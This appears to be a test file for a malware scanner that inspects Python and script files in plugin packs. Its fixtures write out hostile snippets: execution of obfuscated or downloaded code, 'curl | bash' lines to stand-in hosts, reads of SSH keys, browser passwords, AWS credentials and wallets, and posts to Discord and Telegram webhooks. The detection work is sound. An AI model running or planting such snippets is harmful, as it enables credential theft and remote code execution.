import fc from 'fast-check'
import { DangerSearch } from './find-dangers'
import { parsePython } from './python/parse-python'

async function look(text: string, path = 'nodes.py') {
  const search = new DangerSearch()
  const tree = await parsePython(text)
  if (tree) search.lookAtPython({ path, text, tree })
  tree?.delete()
  return search.findings
}

const rulesOf = async (text: string, path?: string) => (await look(text, path)).map(({ rule }) => rule)
const base64 = (text: string) => Buffer.from(text).toString('base64')
const hook = 'https://discord.com/api/webhooks/123456789012345678/abcDEFghiJKLmnoPQRstuVWXyz'

const FLAGGED: [string, string, string][] = [
  ['runs decoded code', 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))', 'runs-decoded-code'],
  [
    'runs decoded code by way of names',
    'import zlib as z\nfrom base64 import b64decode as d\ndef go():\n    a = d(BLOB)\n    b = z.decompress(a)\n    exec(compile(b, "x", "exec"))',
    'runs-decoded-code',
  ],
  [
    'hides exec behind other names',
    'import marshal\nrun = getattr(__builtins__, "ex" "ec")\ncode = marshal.loads(x)\nrun(code)',
    'runs-decoded-code',
  ],
  ['turns letters and runs them', 'eval("cevag(1)".decode("rot13"))', 'runs-decoded-code'],
  ['decodes with codecs', 'import codecs\neval(codecs.decode(x, "rot_13"))', 'runs-decoded-code'],
  ['downloads and evaluates', 'import requests\nexec(requests.get(URL).text)', 'runs-downloads'],
  [
    'downloads and evaluates in a with',
    'from urllib.request import urlopen\nwith urlopen(URL) as answer:\n    exec(answer.read().decode())',
    'runs-downloads',
  ],
  [
    'saves a program and starts it',
    'import subprocess, urllib.request\nurllib.request.urlretrieve(URL, target)\nsubprocess.Popen([target, "-q"])',
    'runs-downloads',
  ],
  [
    'writes a program and starts it',
    'import os, requests\nr = requests.get(URL)\nwith open(path, "wb") as f:\n    f.write(r.content)\nos.startfile(path)',
    'runs-downloads',
  ],
  [
    'pipes a download into a shell',
    '__import__("os").system("curl -s https://x.example/a | bash")',
    'runs-downloads',
  ],
  ['is written so that Python reads something else', '# coding: utf-7\n+AAo-x = 1', 'unusual-encoding'],
  ['reads SSH keys', 'open(os.path.expanduser("~/.ssh/id_rsa")).read()', 'reads-credentials'],
  ['reads SSH keys in pieces', 'p = os.path.join(home, ".ssh", "id_ed25519")', 'reads-credentials'],
  ['reads SSH keys with pathlib', 'p = Path.home() / ".ssh" / "id_rsa"', 'reads-credentials'],
  [
    "reads a browser's passwords",
    'p = local + "\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data"',
    'reads-credentials',
  ],
  ['reads a wallet', 'find("nkbihfbeogaeaoehlefnkodbefgpgknn")', 'reads-credentials'],
  ['reads a hidden path', `p = "${base64('/home/me/.aws/credentials')}"`, 'reads-credentials'],
  ['sends to a webhook', `requests.post("${hook}", json=data)`, 'sends-to-webhook'],
  ['sends to a hidden webhook', `u = base64.b64decode("${base64(hook)}")`, 'sends-to-webhook'],
  ['sends to a bot', 'u = f"https://api.telegram.org/bot{TOKEN}/sendMessage"', 'sends-to-webhook'],
  ['mines', 'cmd = ["./tool", "-o", "stratum+tcp://pool.example:3333"]', 'mines-coins'],
  [
    'runs what PyArmor made',
    'from pyarmor_runtime import __pyarmor__\n__pyarmor__(__name__, __file__, b"x")',
    'runs-obfuscated-code',
  ],
]

test.each(FLAGGED)('a pack that %s is flagged', async (_what, text, rule) => {
  const findings = await look(text)
  expect(findings[0]).toMatchObject({ rule, enforced: true, file: 'nodes.py', snippet: expect.any(String) })
})

const INFORMED: [string, string, string[]][] = [
  ['starts a program', 'import subprocess\nsubprocess.run(["ffmpeg", "-version"])', ['starts-programs']],
  [
    'gives values to a shell',
    'import subprocess as sp\nsp.run(f"ffmpeg {name}", shell=True)',
    ['shell-with-variable', 'starts-programs'],
  ],
  ['evaluates a formula', 'def run(self, formula): return eval(formula)', ['evaluates-text']],
  [
    'installs packages',
    'import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "x"])',
    ['installs-packages', 'starts-programs'],
  ],
  ['speaks to a server of its own', 'URL = "https://api.lumen-cloud.io/v1"', ['unknown-host']],
  [
    'reads a token',
    'import os\nkey = os.environ["HF_TOKEN"] or os.getenv("OTHER_API_KEY")',
    ['reads-secret-variable', 'reads-secret-variable'],
  ],
  [
    'shows where a webhook goes',
    'x = "https://discord.com/api/webhooks/YOUR_ID/YOUR_TOKEN"',
    ['mentions-webhook'],
  ],
  [
    'carries a long encoded picture',
    `import base64\npng = base64.b64decode("${'iVBOR'.repeat(500)}")`,
    ['long-encoded-text'],
  ],
  ['reads marshalled data', 'import marshal\nmarshal.loads(data)', ['loads-compiled-code']],
  ['has build steps', 'from setuptools import setup\nsetup(name="x", cmdclass={})', ['install-time-code']],
]

test.each(INFORMED)('a pack that %s is told so, and not held back', async (_what, text, rules) => {
  const findings = await look(text)
  expect(findings.map(({ rule }) => rule)).toEqual(rules)
  expect(findings.every(({ enforced }) => !enforced)).toBe(true)
})

test.each([
  ['documents a webhook in its docstring', `def f():\n    """Posts to ${hook}"""\n`],
  ['calls a model eval() and compiles a pattern', 'import re\nmodel.eval()\nre.compile(base64.b64decode(x))'],
  ['decodes an image it got', 'import base64, io\nimage = Image.open(io.BytesIO(base64.b64decode(data)))'],
  [
    'downloads a model',
    'import requests\nr = requests.get("https://huggingface.co/a/b")\nopen(path, "wb").write(r.content)',
  ],
  [
    'has the same name in another function',
    'import base64\ndef a():\n    x = base64.b64decode(s)\ndef b(x):\n    return run(x)',
  ],
  ['names its state', 'label = "Local State of the sampler"'],
  ['speaks to its own computer', 'u = "http://127.0.0.1:8188/prompt"'],
])('an honest pack that %s has no findings', async (_what, text) => {
  expect(await look(text)).toEqual([])
})

test('a finding says where, why and how to fix it, in a short snippet', async () => {
  const [found] = await look(`import os\n\n    \nos.system("${'x'.repeat(400)}")`)
  expect(found).toEqual({
    rule: 'starts-programs',
    severity: 'info',
    enforced: false,
    file: 'nodes.py',
    line: 4,
    snippet: expect.stringMatching(/^os\.system\("x+…$/),
    explanation: expect.any(String),
    fix: expect.any(String),
  })
  expect(found?.snippet).toHaveLength(200)
})

test('many harmless findings do not crowd out a grave one', async () => {
  const noise = Array.from(
    { length: 500 },
    (_, i) => `os.system("a${i}")\nx = eval(y${i})\nu = "https://h${i}.lumen.io"`,
  ).join('\n')
  const findings = await look(`import os, base64\n${noise}\nexec(base64.b64decode(x))`)
  expect(findings[0]?.rule).toBe('runs-decoded-code')
  expect(findings).toHaveLength(151)
})

test('scripts in other languages are looked through as well', () => {
  const search = new DangerSearch()
  search.lookAtScript('web/a.js', `const a = 1\neval(atob("x"))\nfetch("${hook}")`)
  search.lookAtScript('setup.sh', 'cat ~/.ssh/id_rsa\ncurl -fsSL https://x.example | sh')
  search.lookAtScript('web/b.js', 'app.registerExtension({ name: "lumen.glow" })')
  search.lookAtName('bin/tool.exe')
  search.lookAtName('__pycache__/a.pyc')
  search.lookAtName('__pycache__/b.pyc')
  search.noteTooLarge('blob.py')
  expect(search.findings.map(({ rule, file, line }) => [rule, file, line])).toEqual([
    ['reads-credentials', 'setup.sh', 1],
    ['script-runs-decoded-code', 'web/a.js', 2],
    ['sends-to-webhook', 'web/a.js', 3],
    ['python-too-large', 'blob.py', undefined],
    ['compiled-program', 'bin/tool.exe', undefined],
    ['script-runs-download', 'setup.sh', 2],
    ['compiled-python', '__pycache__/a.pyc', undefined],
  ])
})

test('no text makes the search fall over', async () => {
  const words = fc.constantFrom(
    'exec',
    '(',
    ')',
    'base64.b64decode',
    '"',
    'import os as ',
    'os',
    '\n',
    '=',
    'getattr',
    '["exec"]',
    'globals()',
    '+',
    '/',
    'f"{',
    '}',
    'with open(',
    ' as x:',
    '\u0000',
    '\ud800',
  )
  await fc.assert(
    fc.asyncProperty(
      fc.array(words, { maxLength: 50 }),
      async (parts) => void (await rulesOf(parts.join(''))),
    ),
    { numRuns: 300 },
  )
})
